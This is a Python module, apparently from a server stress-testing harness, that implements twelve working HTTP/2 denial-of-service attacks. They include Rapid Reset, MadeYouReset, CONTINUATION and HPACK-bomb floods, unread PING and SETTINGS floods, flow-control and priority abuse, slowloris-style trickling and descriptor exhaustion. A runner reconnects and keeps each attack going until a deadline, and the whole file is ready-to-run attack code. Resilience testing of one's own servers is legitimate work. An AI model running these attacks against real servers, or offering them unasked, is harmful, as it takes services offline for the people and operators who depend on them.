"""Twelve ways to knock an HTTP/2 server over: bytes that are encoded before they are needed, and how they are sent.

Each attack is run by a process of its own until the time is up: `run(attack, target, request, until)`. It takes what
it gets: whoever is cut off connects again and goes on.
"""

import contextlib
import pathlib
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "http2"))
import harness  # noqa: E402
import wire  # noqa: E402

START = wire.PREFACE + wire.settings()
# Bytes in one sendall, about.
BLOCK = 1 << 18
# Stream numbers that one connection may use before they run out, with room to spare.
STREAMS_PER_CONNECTION = 1 << 17


class Attack:
    """One connection of the attacker's after the other. Counts what it got rid of."""

    def __init__(self, target: wire.Target, request: harness.Request, until: float):
        self.target = target
        self.request = request
        self.until = until
        self.frames = 0
        self.octets = 0
        self.connections = 0
        self.socket: socket.socket | None = None
        self.block = wire.block(request.head())

    @property
    def going(self) -> bool:
        return time.monotonic() < self.until

    def connect(self, start: bytes = START) -> None:
        """A connection that has sent `start`. Tries until it has one or the time is up."""
        while self.going:
            try:
                self.socket = self.target.connect()
                self.socket.sendall(start)
                self.connections += 1
                return
            except (OSError, wire.Closed):
                time.sleep(0.01)  # Nobody can await a port that refuses.
        raise TimeoutError

    def send(self, data: bytes, frames: int, listen: bool = True) -> None:
        """Sends all and throws away what comes meanwhile, unless the attack is not to listen. Raises OSError when the
        connection is gone, TimeoutError when the time is up."""
        view = memoryview(data)
        self.socket.setblocking(False)
        while view:
            if not self.going:
                raise TimeoutError
            try:
                sent = self.socket.send(view[:1 << 16])
                view = view[sent:]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket] if listen else [], [self.socket], [], 0.05)
            if listen:
                self.drop_input()
        self.frames += frames
        self.octets += len(data)

    def drop_input(self) -> None:
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while True:
                if not self.socket.recv(1 << 16):
                    raise ConnectionResetError

    def repeat(self, data: bytes, frames: int, start: bytes = b"", listen: bool = True) -> None:
        """Sends the same bytes until the connection or the time is over."""
        self.connect(START + start)
        while True:
            self.send(data, frames, listen)

    def per_stream(self, make: Callable[[int], bytes], frames: int, start: bytes = b"") -> None:
        """Sends `make(stream)` for one stream after the other, in blocks."""
        self.connect(START + start)
        at = 1
        size = len(make(1))
        count = max(1, BLOCK // size)
        while at < STREAMS_PER_CONNECTION:
            self.send(b"".join(make(stream) for stream in range(at, at + 2 * count, 2)), count * frames)
            at += 2 * count

    def headers(self, stream: int, end: bool = False) -> bytes:
        return wire.frame(wire.HEADERS, wire.END_HEADERS | (wire.END_STREAM if end else 0), stream, self.block)


def rapid_reset(a: Attack) -> None:
    """CVE-2023-44487: requests that are taken back in the same breath."""
    body = a.request.body
    a.per_stream(lambda s: a.headers(s) + wire.frame(wire.DATA, wire.END_STREAM, s, body) + wire.rst_stream(s), 3)


def made_you_reset(a: Attack) -> None:
    """CVE-2025-8671: complete requests followed by what the server itself must reset the stream for; another such
    thing on each connection, because servers differ in which of them ends the connection at once."""
    body = a.request.body
    overflow = (1 << 31) - 1
    provocations = (
        lambda s: wire.window_update(s, 0),
        lambda s: wire.window_update(s, overflow) + wire.window_update(s, overflow),
        lambda s: wire.frame(wire.DATA, wire.END_STREAM, s, b"more"),
        lambda s: wire.frame(wire.PRIORITY, 0, s, b"\0\0\0\0"),
        lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, s, a.block),
    )
    provoke = provocations[a.connections % len(provocations)]
    a.per_stream(lambda s: a.headers(s) + wire.frame(wire.DATA, wire.END_STREAM, s, body) + provoke(s), 3)


def continuation(a: Attack) -> None:
    """CVE-2024-27316: a header block that never ends."""
    field = wire.literal(b"x-endless", b"v" * 1000)
    a.repeat(wire.frame(wire.CONTINUATION, 0, 1, field * 16) * 16, 16, wire.frame(wire.HEADERS, 0, 1, a.block))


def hpack_bomb(a: Attack) -> None:
    """One large entry of the dynamic table named thousands of times in each request; and integers that are padded
    with octets that say nothing."""
    entry = wire.literal(b"x-bomb", b"v" * 3900, 0x40)
    bomb = a.block + b"\xbe" * 12000
    padded = a.block + b"\0\1x\x7f" + b"\x80" * 8000 + b"\0"
    first = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, a.block + entry)
    a.per_stream(lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS, s + 2, padded if s % 64 == 63 else bomb), 1,
                 first)


def ping(a: Attack) -> None:
    """CVE-2019-9512: PINGs whose answers nobody reads."""
    a.repeat(wire.ping() * (BLOCK // 17), BLOCK // 17, listen=False)


def settings(a: Attack) -> None:
    """CVE-2019-9515: SETTINGS whose ACKs nobody reads."""
    one = wire.settings((wire.INITIAL_WINDOW_SIZE, 65535), (wire.HEADER_TABLE_SIZE, 4096))
    a.repeat(one * (BLOCK // len(one)), BLOCK // len(one), listen=False)


def empty_data(a: Attack) -> None:
    """CVE-2019-9518: DATA that has neither octets nor an end."""
    a.repeat(wire.frame(wire.DATA, 0, 1) * (BLOCK // 9), BLOCK // 9, a.headers(1))


def small_windows(a: Attack) -> None:
    """CVE-2019-9511: answers that nobody takes, or only octet by octet."""
    body = a.request.body

    def one(s: int) -> bytes:
        grant = wire.window_update(s, 1) if s % 4 == 1 else b""
        return a.headers(s) + wire.frame(wire.DATA, wire.END_STREAM, s, body) + grant

    a.connect(START + wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + b"".join(one(s) for s in range(1, 201, 2)))
    credit = b"".join(wire.window_update(s, 1) for s in range(1, 201, 2))
    while True:
        # In turn: grow by one octet each, and take it back.
        a.send((wire.settings((wire.INITIAL_WINDOW_SIZE, 1)) + wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + credit)
               * 50, 50 * 102)


def priority(a: Attack) -> None:
    """CVE-2019-9513: a tree of priorities that changes its shape all the time, on streams that are idle."""
    changes = b"".join(wire.priority(s, (s * 7919) % 4000 & ~1, s & 255) for s in range(1, 20001, 2))
    a.repeat(changes, 10000)


def many_slow(a: Attack, start: bytes, trickle: bytes, count: int) -> None:
    """As many connections as the server takes, each of which sends one octet now and then."""
    open_ones: list[socket.socket] = []
    at = 0
    try:
        while a.going:
            while a.going and len(open_ones) < count:
                try:
                    one = a.target.connect()
                    one.sendall(start)
                    one.setblocking(False)
                    open_ones.append(one)
                    a.connections += 1
                except (OSError, wire.Closed):
                    break
            for one in list(open_ones):
                try:
                    if trickle:
                        one.send(trickle[at % len(trickle):][:1])
                        a.octets += 1
                    if one.recv(1 << 16) == b"":
                        raise ConnectionResetError
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    open_ones.remove(one)
                    one.close()
            at += 1
            time.sleep(0.05)  # The slowness is the attack.
    finally:
        for one in open_ones:
            one.close()


def slow_preface(a: Attack) -> None:
    """Connections that take their time to say what they are."""
    many_slow(a, b"", wire.PREFACE, 150)


def slow_body(a: Attack) -> None:
    """Requests whose bodies come octet by octet, on many streams of many connections."""
    start = START + b"".join(a.headers(s) for s in range(1, 101, 2))
    many_slow(a, start, wire.frame(wire.DATA, 0, 1, b"\0") * 1000, 60)


class Bare(wire.Target):
    """A target to which TCP connects and no TLS follows."""

    def connect(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), self.patience)


def handshakes(a: Attack) -> None:
    """More connections than the server has descriptors (`ulimit -n 80`): some stop within the handshake, some idle
    behind it, some come and go."""
    bare = Bare(a.target.host, a.target.port, patience=1.0)
    kept: list[socket.socket] = []
    hello = bytes.fromhex("16030100c8010000c40303")
    try:
        while a.going:
            for number in range(120):
                if not a.going:
                    break
                try:
                    one = (bare if number % 3 else a.target).connect()
                    if number % 3 == 1:
                        one.sendall(hello)
                    elif number % 3 == 0:
                        one.sendall(START)
                    kept.append(one)
                    a.connections += 1
                except (OSError, wire.Closed):
                    time.sleep(0.005)  # Nobody can await a port that refuses.
            for one in kept[:len(kept) // 2]:
                one.close()
            kept = kept[len(kept) // 2:]
    finally:
        for one in kept:
            one.close()


ATTACKS = {
    "rapid_reset": rapid_reset, "made_you_reset": made_you_reset, "continuation": continuation,
    "hpack_bomb": hpack_bomb, "ping": ping, "settings": settings, "empty_data": empty_data,
    "small_windows": small_windows, "priority": priority, "slow_preface": slow_preface, "slow_body": slow_body,
    "handshakes": handshakes,
}


def run(name: str, target: wire.Target, request: harness.Request, until: float, counts) -> None:
    """Attacks until then, over as many connections as it takes. Adds to `counts`: frames, octets, connections."""
    attack = Attack(target, request, until)
    while attack.going:
        with contextlib.suppress(OSError, wire.Closed):
            ATTACKS[name](attack)
        if attack.socket is not None:
            attack.socket.close()
            attack.socket = None
    for at, count in enumerate((attack.frames, attack.octets, attack.connections)):
        with counts.get_lock():
            counts[at] += count
